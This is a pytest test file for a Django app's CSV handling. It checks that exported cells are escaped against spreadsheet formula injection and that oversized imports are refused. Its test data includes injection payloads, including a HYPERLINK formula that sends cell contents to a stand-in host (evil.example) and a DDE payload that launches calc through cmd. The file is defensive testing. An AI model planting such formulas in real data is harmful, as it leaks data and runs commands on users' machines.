"""CSV in Django admin (issue 15): exported text a spreadsheet would run as a formula is
escaped (OWASP: a leading ' before = + - @ tab CR), numbers stay numbers, and an import
larger than CSV_IMPORT_MAX_BYTES is refused with a clear message before it is read."""

from __future__ import annotations

import csv
import io

import pytest

from dcim.csv_safe import safe_cell
from dcim.inventory.models import Device
from dcim.inventory.tests.factories import make_device
from dcim.inventory.tests.test_import import DEVICE_HEADER, admin_export, admin_import, hall

pytestmark = pytest.mark.django_db
__all__ = ["hall"]  # the fixture, imported for these tests

EVIL = {
    '=HYPERLINK("http://evil.example/?"&A1)': '\'=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tTAB": "'\tTAB",
    "\rCR": "'\rCR",
}


def test_safe_cell_escapes_formulas_and_keeps_numbers():
    for raw, shown in EVIL.items():
        assert safe_cell(raw) == shown
    assert [safe_cell(v) for v in ("-3.5", "+1e3", "gpu-01", 42, -1.5, None)] == [
        "-3.5",
        "+1e3",
        "gpu-01",
        42,
        -1.5,
        None,
    ]


def test_the_admin_export_escapes_formulas(admin_role_client, hall):
    for i, raw in enumerate(EVIL):
        make_device(rack=hall.racks.first(), name=f"dev-{i}", serial=raw)
    rows = list(csv.DictReader(io.StringIO(admin_export(admin_role_client, "device"))))
    assert sorted(r["serial"] for r in rows) == sorted(EVIL.values())
    assert {r["name"] for r in rows} == {f"dev-{i}" for i in range(len(EVIL))}


def test_an_import_over_the_limit_is_refused_with_a_clear_message(
    admin_role_client, hall, settings
):
    settings.CSV_IMPORT_MAX_BYTES = 4096
    line = "gpu-{:05d},gpu-8x,,Paris,,H1-A01,,,SN\n"
    big = DEVICE_HEADER + "".join(line.format(i) for i in range(200))
    assert len(big) > 4096
    answer = admin_import(admin_role_client, "device", big)
    assert answer.status_code == 200
    html = answer.content.decode()
    assert "The CSV file is 7 KiB; at most 4 KiB can be imported at once." in html
    assert "Split it into smaller files" in html
    assert "result" not in answer.context or answer.context["result"] is None
    assert not Device.objects.exists()
